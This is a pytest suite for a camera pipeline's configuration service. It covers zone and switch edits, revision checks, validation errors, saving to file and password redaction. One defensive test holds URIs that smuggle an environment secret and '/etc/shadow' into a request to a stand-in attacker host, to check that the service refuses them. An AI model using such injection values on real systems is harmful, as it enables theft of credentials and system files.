"""The configuration of a line as services read and change it; the line itself is left out."""

import stat
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any, NamedTuple

import msgspec
import pytest

from pipeline.processes.line_up import LineUp
from pipeline.redact import forget
from stages.line.configuration.config_source import CommandLine, ConfigSource
from stages.line.configuration.hot_change import HotChange
from stages.line.configuration.in_force import ConfigInForce
from stages.line.configuration.keeper import ConfigKeeper
from stages.line.line import Line
from stages.services import line_control as told

AREA = [[0.1, 0.1], [0.9, 0.1], [0.9, 0.9]]
WAY = {"from": [0.2, 0.5], "to": [0.8, 0.5]}
TEXT = """\
# The gate of the yard.
sources:
  - uri: scene://street   # drawn
    name: gate
    zones:
      yard: {polygon: [[0, 0], [1, 0], [1, 1]], labels: [person]}  # all of it
track:
  lost_s: 3  # patient
"""


class Reply(NamedTuple):
    status: int
    body: Any
    revision: str


class Kept:
    """A keeper and its file."""

    def __init__(
        self, path: Path, model: Path, text: str = TEXT, *, sources: Sequence[str] = (),
        settings: Sequence[str] = (), is_named: bool = True,
    ) -> None:  # fmt: skip
        self.path = path
        path.write_bytes(text.encode())
        command_line = CommandLine(tuple(sources), str(model), tuple(settings))
        source = ConfigSource(path, command_line, is_named=is_named)
        first = source.read()
        line = Line(first.config, path)
        self.told: list[LineUp] = []
        change = HotChange(line, path, self.told.append)
        self.in_force = ConfigInForce(source, first, change, _at_once)
        self._keeper = ConfigKeeper(self.in_force)

    @property
    def text(self) -> str:
        return self.path.read_bytes().decode()

    def ask(self, question: told.Question) -> Reply:
        given = msgspec.json.decode(
            self._keeper.answer(msgspec.json.encode(question)), type=told.Answer
        )
        return Reply(given.status, msgspec.json.decode(given.body), given.revision)

    def zones(self) -> Reply:
        return self.ask(told.ReadZones(camera="gate"))

    def put(self, sections: Mapping[str, Any], **options: Any) -> Reply:
        to = told.CameraZones("gate", msgspec.json.encode(sections))
        return self.ask(told.Change(to=to, **options))

    def patch(self, content: Any, **options: Any) -> Reply:
        to = told.Document(msgspec.json.encode(content), is_patch=True)
        return self.ask(told.Change(to=to, **options))

    def whole(self, content: Any, **options: Any) -> Reply:
        return self.ask(told.Change(to=told.Document(msgspec.json.encode(content)), **options))


def _at_once(step: Callable[[], None]) -> None:
    step()


@pytest.fixture(autouse=True)
def _no_secrets() -> None:
    forget()


@pytest.fixture
def kept(tmp_path: Path, tiny_model: Path) -> Kept:
    return Kept(tmp_path / "line.yaml", tiny_model)


def test_zones_are_read_and_replaced_in_force_and_in_the_file(kept: Kept) -> None:
    before = kept.zones()
    assert before.status == 200
    assert before.body["zones"]["yard"]["labels"] == ["person"]
    assert before.body["lines"] == {}
    zones = {**before.body["zones"], "door": {"polygon": AREA}}
    done = kept.put({"zones": zones, "lines": {"path": WAY}}, revisions=(before.revision,))
    assert done.status == 200, done.body
    assert (done.body["applied"], done.body["saved"], done.body["unsaved"]) == (True, True, [])
    assert [(each["key"], each["kind"]) for each in done.body["changes"]] == [
        ("sources[0].zones.door", "hot"), ("sources[0].lines.path", "hot"),
    ]  # fmt: skip
    assert done.body["processes"] == ["track"]
    assert kept.told[-1].processes[4].options["cameras"]["gate"]["zones"].keys() == {"yard", "door"}
    after = kept.zones()
    assert after.revision == done.revision != before.revision
    assert after.body["zones"]["door"]["polygon"] == AREA
    assert kept.text == TEXT.replace(
        "  # all of it\n",
        "  # all of it\n      door:\n        polygon: [[0.1, 0.1], [0.9, 0.1], [0.9, 0.9]]\n"
        "    lines:\n      path:\n        from: [0.2, 0.5]\n        to: [0.8, 0.5]\n",
    )
    assert kept.put({"lines": {}}).status == 200
    assert kept.zones().body["zones"].keys() == {"yard", "door"}


def test_one_zone_comes_changes_and_goes(kept: Kept) -> None:
    def change(section: Any, name: str, value: Any = None) -> Reply:
        text = None if value is None else msgspec.json.encode(value)
        return kept.ask(told.Change(to=told.Region("gate", section, name, text)))

    assert change("zones", "door", {"polygon": AREA}).status == 200
    (changed,) = change("zones", "door", {"polygon": AREA, "dwell_s": 5}).body["changes"]
    assert changed["text"] == "sources[0].zones.door.dwell_s: null -> 5"
    assert change("lines", "path", WAY).status == 200
    assert change("zones", "door").status == change("lines", "path").status == 200
    assert change("zones", "door") == Reply(
        404, {"detail": "no zone 'door'; there are yard", "errors": []}, ""
    )
    assert kept.text == TEXT.replace("  # all of it\n", "  # all of it\n    lines: {}\n")


def test_a_camera_comes_and_goes_and_no_other_gets_its_name(kept: Kept) -> None:
    """Also where names are those of places in the list."""
    nameless = kept.ask(told.Change(to=told.NewCamera(b'{"uri": "scene://street?seed=2"}')))
    assert [each["camera"] for each in nameless.body["changes"]] == ["cam0"]
    again = kept.ask(told.Change(to=told.NewCamera(b'{"name": "gate", "uri": "scene://street"}')))
    assert again.status == 409
    assert "there is a camera 'gate' already" in again.body["detail"]
    assert kept.ask(told.Change(to=told.NewCamera(b'{"name": "a"}'))).status == 422
    gone = kept.ask(told.Change(to=told.NoCamera("gate")))
    assert (gone.body["changes"][0]["kind"], gone.body["saved"]) == ("camera removed", True)
    assert kept.in_force.config.camera_names == ("cam0",)
    assert kept.ask(told.Change(to=told.NoCamera("gate"))).status == 404
    last = kept.ask(told.Change(to=told.NoCamera("cam0")))
    assert (last.status, last.body["errors"][0]["key"]) == (422, "sources")


def test_those_that_stay_keep_names_of_their_places(tmp_path: Path, tiny_model: Path) -> None:
    text = "sources:\n  - uri: scene://street\n  - uri: scene://street?seed=2  # two\n"
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    gone = kept.ask(told.Change(to=told.NoCamera("cam0")))
    assert gone.body["saved"], gone.body
    assert [each["key"] for each in gone.body["changes"]] == ["sources[0]"]
    assert kept.in_force.source.read().config.camera_names == ("cam1",)
    assert "uri: scene://street?seed=2  # two\n" in kept.text


def test_a_stale_revision_is_refused(kept: Kept) -> None:
    first = kept.zones().revision
    assert kept.put({"lines": {"path": WAY}}, revisions=(first,)).status == 200
    stale = kept.put({"lines": {}}, revisions=(first,))
    assert stale.status == 412
    assert kept.zones().body["lines"]
    # The thresholds are no business of who draws zones.
    now = kept.zones().revision
    assert kept.patch({"postprocess": {"score_thresh": 0.4}}).status == 200
    assert kept.put({"lines": {}}, revisions=("other", now)).status == 200
    assert kept.put({"lines": {}}, revisions=("*",)).status == 200


@pytest.mark.parametrize(
    ("sections", "status", "key", "words"),
    [
        ({"zones": {"yard": {"polygon": [[0, 0], [1, 1]]}}}, 422, "sources[0].zones.yard.polygon",
         "length >= 3"),
        ({"zones": {"yard": {"polygon": [[0, 0], [1, 1], [1, 0], [0, 1]]}}}, 422,
         "sources[0].zones.yard.polygon", "expected edges that meet at corners only"),
        ({"zones": {"yard": {"polygon": AREA, "label": 1}}}, 422, "sources[0].zones.yard.label",
         "did you mean 'labels'?"),
        ({"zones": {"yard": {"polygon": AREA, "labels": ["cow"]}}}, 422,
         "sources[0].zones.yard.labels", "unknown label 'cow'"),
        ({"zones": {"a/b": {"polygon": AREA}}}, 422, "sources[0].zones", "letters, digits"),
        ({"zones": [1]}, 422, "sources[0].zones", "Expected `object`, got `array`"),
        ({"zone": {}}, 422, "zone", "did you mean 'zones'?"),
        ([1], 400, "", "expected keys and values, got list"),
    ],
)  # fmt: skip
def test_a_mistake_is_named_as_check_names_it(
    kept: Kept, sections: Any, status: int, key: str, words: str
) -> None:
    refused = kept.put(sections)
    assert refused.status == status
    assert words in refused.body["detail"]
    assert [error["key"] for error in refused.body["errors"]] == ([key] if key else [])
    assert kept.text == TEXT
    assert kept.told == []


@pytest.mark.parametrize(
    ("text", "words"),
    [(b"{", "not JSON"), (b'{"zones": {}, "zones": {}}', "key 'zones' is given twice"),
     (b'{"zones": NaN}', "expected a number, got NaN"), (b"[" * 100_000, "not JSON"),
     (b"\xff", "not JSON")],
)  # fmt: skip
def test_what_is_no_json_is_said(kept: Kept, text: bytes, words: str) -> None:
    refused = kept.ask(told.Change(to=told.CameraZones("gate", text)))
    assert refused.status == 400
    assert words in refused.body["detail"]


def test_a_plan_says_what_a_change_costs_and_changes_nothing(kept: Kept) -> None:
    hot = kept.patch({"track": {"lost_s": 5}}, mode="plan").body
    assert (hot["possible"], hot["applied"]) == (True, False)
    assert hot["cost"] == "nothing: no frame is lost, and no stage is started again"
    both = kept.patch({"track": {"lost_s": 5}, "ring": {"slots": 9}}, mode="plan").body
    assert not both["possible"]
    assert [(each["key"], each["kind"]) for each in both["changes"]] == [
        ("track.lost_s", "hot"), ("ring.slots", "start again"),
    ]  # fmt: skip
    assert both["cost"].startswith("a new start of the line")
    assert kept.patch({}, mode="plan").body["cost"] == "nothing: it is in force already"
    assert kept.told == []
    assert kept.text == TEXT


def test_what_needs_a_start_is_refused_with_its_keys(kept: Kept) -> None:
    refused = kept.patch({"ring": {"slots": 9}, "log": "DEBUG", "track": {"lost_s": 5}})
    assert refused.status == 409
    assert refused.body["detail"].startswith("ring.slots, log cannot change while the line runs")
    assert [error["key"] for error in refused.body["errors"]] == ["ring.slots", "log"]
    assert kept.text == TEXT


def test_a_whole_configuration_as_yaml(kept: Kept) -> None:
    text = TEXT.replace("lost_s: 3", "lost_s: 4").encode() + b"model: " + _model(kept)
    to = told.Document(text, "yaml")
    assert kept.ask(told.Change(to=to, mode="check")) == Reply(200, {"valid": True}, "")
    assert kept.ask(told.Change(to=to)).body["saved"]
    assert kept.text == TEXT.replace("lost_s: 3", "lost_s: 4")
    wrong = kept.ask(told.Change(to=told.Document(b"a: 1\na: 2\n", "yaml"), mode="check"))
    assert wrong.status == 400
    assert "line 2: key 'a' is given twice" in wrong.body["detail"]


def test_the_configuration_goes_round(kept: Kept) -> None:
    """What is read can be sent back, and changes nothing."""
    read = kept.ask(told.ReadConfiguration())
    assert read.body["file"] == str(kept.path)
    assert read.body["overridden"] == ["model"]
    done = kept.whole(read.body["configuration"], revisions=(read.revision,))
    assert (done.status, done.body["changes"]) == (200, [])
    assert kept.text == TEXT


def _model(kept: Kept) -> bytes:
    return kept.in_force.config.model.encode()


def test_a_file_that_was_changed_by_hand_is_not_written(kept: Kept) -> None:
    kept.path.write_text(TEXT + "# mine\n")
    refused = kept.put({"lines": {"path": WAY}})
    assert refused.status == 409
    assert "was changed by hand since the line has read it" in refused.body["detail"]
    assert kept.told == []
    assert kept.text == TEXT + "# mine\n"
    kept.in_force.reload()
    assert kept.put({"lines": {"path": WAY}}).body["saved"]
    assert kept.text.endswith("# mine\n")


def test_what_cannot_be_written_is_in_force_and_said(kept: Kept) -> None:
    kept.path.chmod(0o444)
    done = kept.put({"lines": {"path": WAY}}).body
    assert (done["applied"], done["saved"]) == (True, False)
    assert done["unsaved"] == [f"{kept.path}: Permission denied"]
    assert kept.text == TEXT
    refused = kept.put({"lines": {"way": WAY}}, saving="always")
    assert refused.status == 409
    assert refused.body["detail"] == f"it cannot be saved: {kept.path}: Permission denied"
    assert kept.zones().body["lines"].keys() == {"path"}
    kept.path.chmod(0o640)
    assert kept.put({"lines": {"way": WAY}}).body["saved"]
    assert "way:" in kept.text
    assert "path:" not in kept.text
    assert stat.S_IMODE(kept.path.stat().st_mode) == 0o640
    assert [path.name for path in kept.path.parent.iterdir()] == ["line.yaml"]


def test_a_change_that_is_not_to_be_saved_is_saved_with_the_next_one(kept: Kept) -> None:
    assert kept.put({"lines": {"path": WAY}}, saving="never").body["unsaved"] == [
        "it was not to be saved"
    ]
    assert kept.text == TEXT
    assert kept.patch({"track": {"lost_s": 5}}).body["saved"]
    assert "lost_s: 5  # patient" in kept.text
    assert "path:" in kept.text


def test_a_line_without_a_file_of_its_own_keeps_changes_in_memory(
    tmp_path: Path, tiny_model: Path
) -> None:
    kept = Kept(tmp_path / "default.yaml", tiny_model, is_named=False)
    assert kept.put({"lines": {"path": WAY}}).body["unsaved"] == [
        "the line was started without a configuration file"
    ]
    assert kept.text == TEXT
    assert kept.ask(told.ReadConfiguration()).body["file"] is None


def test_what_the_command_line_says_stays_out_of_the_file(tmp_path: Path, tiny_model: Path) -> None:
    kept = Kept(tmp_path / "line.yaml", tiny_model, settings=["track.lost_s=4"])
    done = kept.patch({"track": {"lost_s": 5, "low_score": 0.2}}).body
    assert (done["applied"], done["saved"]) == (True, False)
    assert done["unsaved"] == ["track.lost_s: the command line gives track.lost_s"]
    assert kept.text == TEXT.replace("  # patient\n", "  # patient\n  low_score: 0.2\n")
    other = Kept(tmp_path / "other.yaml", tiny_model, sources=["scene://street"])
    to = told.CameraZones("cam0", msgspec.json.encode({"lines": {"path": WAY}}))
    assert other.ask(told.Change(to=to)).body["unsaved"] == [
        "sources[0].lines.path: the command line gives sources"
    ]


def test_a_link_and_the_line_breaks_of_the_file_stay(tmp_path: Path, tiny_model: Path) -> None:
    real = tmp_path / "real.yaml"
    kept = Kept(real, tiny_model, TEXT.replace("\n", "\r\n"))
    link = tmp_path / "link.yaml"
    link.symlink_to(real)
    linked = Kept(link, tiny_model, TEXT.replace("\n", "\r\n"))
    assert linked.patch({"track": {"lost_s": 5}}).body["saved"]
    assert link.is_symlink()
    assert kept.text == TEXT.replace("lost_s: 3", "lost_s: 5").replace("\n", "\r\n")


def test_what_an_alias_shares_is_not_changed_for_others(tmp_path: Path, tiny_model: Path) -> None:
    text = """\
sources:
  - {uri: scene://street, name: gate, zones: &zones {yard: {polygon: [[0, 0], [1, 0], [1, 1]]}}}
  - {uri: 'scene://street?seed=2', name: back, zones: *zones}
"""
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    done = kept.put({"zones": {"yard": {"polygon": AREA}}}).body
    assert (done["applied"], done["saved"]) == (True, False)
    assert "cannot be changed alone" in done["unsaved"][0] or "anchor" in done["unsaved"][0]
    assert kept.text == text
    to = told.CameraZones("back", msgspec.json.encode({"zones": {"yard": {"polygon": AREA}}}))
    kept.put({"zones": {"yard": {"polygon": [[0, 0], [1, 0], [1, 1]]}}}, saving="never")
    assert kept.ask(told.Change(to=to)).body["saved"]
    assert "&zones {yard: {polygon: [[0, 0]" in kept.text
    assert "*zones" not in kept.text


# As tests/test_passwords.py has them, of those that a start takes.
ADDRESSES = [
    "rtmp://admin:S3cretXYZ@127.0.0.1:1/x",
    "rtsp://admin:S3cretXYZ@127.0.0.1:1/x",
    "rtsp://admin:S3cr etXYZ@127.0.0.1/x",
    "rtsp://admin:S3cr/etXYZ@127.0.0.1/x",
    "http://127.0.0.1:1/v?pwd=S3cretXYZ",
    "rtsp://admin:S3cr: etXYZ@127.0.0.1",
    "http://admin:S3cretXYZ@127.0.0.1:1/" + "x" * 300,
    "rtsp://127.0.0.1:1/user=admin_password=S3cretXYZ_channel=1",
    "rtsp://admin:S3cr%40etXYZ@127.0.0.1:1/s",
]


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_password_is_shown_and_what_is_sent_back_keeps_it(
    tmp_path: Path, tiny_model: Path, address: str
) -> None:
    text = msgspec.json.encode({"sources": [{"uri": address, "name": "gate"}]}).decode()
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    read = kept.ask(told.ReadConfiguration())
    for shown in (read, kept.patch({"sources": [{"uri": "scene://street"}]}, mode="plan")):
        assert "S3cr" not in str(shown)
        assert "etXYZ" not in str(shown)
    body = read.body["configuration"]
    done = kept.whole({**body, "track": {**body["track"], "lost_s": 5}})
    assert [each["key"] for each in done.body["changes"]] == ["track.lost_s"]
    assert kept.in_force.config.sources[0].uri == address
    assert msgspec.json.encode(address).decode() in kept.text


def test_a_placeholder_that_stands_for_nothing_is_refused(tmp_path: Path, tiny_model: Path) -> None:
    text = "sources:\n- {uri: 'rtsp://admin:S3cret99@127.0.0.1:1/1', name: gate}\n"
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    moved = [{"uri": "rtsp://***@192.0.2.1/1", "name": "gate"}]
    refused = kept.patch({"sources": moved}, mode="plan")
    assert refused.status == 422
    assert refused.body["errors"][0]["key"] == "sources[0].uri"
    assert "none is shown so" in refused.body["detail"]
    stolen = kept.patch({"record": {"jsonl": "rtsp://***@127.0.0.1:1/1"}}, mode="plan")
    assert stolen.status == 422
    # A camera that stands in another place is known by its address.
    two = [{"uri": "scene://street"}, {"uri": "rtsp://***@127.0.0.1:1/1", "name": "gate"}]
    plan = kept.patch({"sources": two}, mode="plan")
    assert plan.status == 200, plan.body
    assert "S3cret99" not in str(plan)


def test_a_question_that_is_none_is_answered(kept: Kept, said: list[str]) -> None:
    answer = msgspec.json.decode(kept._keeper.answer(b"{}"), type=told.Answer)
    assert answer.status == 500
    assert said


REFERRING = """\
sources:
  - {uri: 'rtsp://me:${GATE_PASSWORD}@cam/1', name: gate}  # the gate
"""


@pytest.fixture
def referring(tmp_path: Path, tiny_model: Path, monkeypatch: pytest.MonkeyPatch) -> Kept:
    monkeypatch.setenv("GATE_PASSWORD", "S3cret")
    return Kept(tmp_path / "line.yaml", tiny_model, REFERRING)


def test_the_file_keeps_references_and_nobody_is_told_what_they_stand_for(referring: Kept) -> None:
    shown = referring.ask(told.ReadConfiguration())
    assert "S3cret" not in str(shown)
    done = referring.whole({**shown.body["configuration"], "track": {"lost_s": 3}})
    assert done.body["applied"], done.body
    assert "S3cret" not in str(done)
    assert "'rtsp://me:${GATE_PASSWORD}@cam/1'" in referring.text
    assert "S3cret" not in referring.text
    added = {"uri": "rtsp://other/1", "name": "other"}
    sources = [*referring.ask(told.ReadConfiguration()).body["configuration"]["sources"], added]
    assert referring.patch({"sources": sources}).body["saved"]
    assert "'rtsp://me:${GATE_PASSWORD}@cam/1'" in referring.text
    capture = referring.told[-1].processes[0]
    assert capture.options["address"]["location"] == "rtsp://me:S3cret@cam/1"


@pytest.mark.parametrize(
    "uri", ["http://attacker/${GATE_PASSWORD}", "http://attacker/?${file:/etc/shadow}"]
)
def test_nobody_has_a_secret_sent_to_him_over_http(referring: Kept, uri: str) -> None:
    refused = referring.patch({"sources": [{"uri": uri, "name": "gate"}]})
    assert refused.status == 422
    assert refused.body["detail"] == (
        "sources[0].uri: expected no ${...} but those that are in force: others are taken from the "
        "configuration file alone"
    )
    assert referring.text == REFERRING


def test_a_secret_that_changed_is_read_with_the_configuration(
    referring: Kept, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GATE_PASSWORD", "N3wS3cret")
    referring.in_force.reload()
    (capture,) = (each for each in referring.told[-1].processes if each.is_source)
    assert capture.options["address"]["location"] == "rtsp://me:N3wS3cret@cam/1"


def switches(kept: Kept) -> Reply:
    return kept.ask(told.ReadSwitches(camera="gate"))


def switch(kept: Kept, wanted: Mapping[str, Any], **options: Any) -> Reply:
    to = told.CameraSwitches("gate", msgspec.json.encode(wanted))
    return kept.ask(told.Change(to=to, **options))


def test_switches_are_read_and_switched_in_force_and_in_the_file(kept: Kept) -> None:
    before = switches(kept)
    assert before.body == {"detect": True, "record": True}
    done = switch(kept, {"detect": False}, revisions=(before.revision,))
    assert done.status == 200, done.body
    assert [(each["key"], each["kind"]) for each in done.body["changes"]] == [
        ("sources[0].detect", "hot")
    ]
    assert done.body["processes"] == ["preprocess", "track"]
    assert done.body["saved"]
    assert "    detect: false\n" in kept.text
    assert switches(kept).body == {"detect": False, "record": True}
    assert switch(kept, {"record": False}, revisions=(before.revision,)).status == 412
    assert kept.zones().revision != switches(kept).revision
    assert switch(kept, {"detect": True, "record": None}).status == 200
    assert "detect: true\n" in kept.text, "what somebody wrote is not taken away"
    assert switches(kept).body == before.body


@pytest.mark.parametrize(
    ("wanted", "status", "detail"),
    [
        ({"detect": "off"}, 422, "Expected `bool`, got `str`"),
        ({"detekt": False}, 422, "did you mean 'detect'"),
        ([], 400, "expected keys and values"),
    ],
)
def test_what_is_no_switch_is_refused(kept: Kept, wanted: Any, status: int, detail: str) -> None:
    refused = switch(kept, wanted)
    assert refused.status == status
    assert detail in refused.body["detail"]
    assert kept.text == TEXT
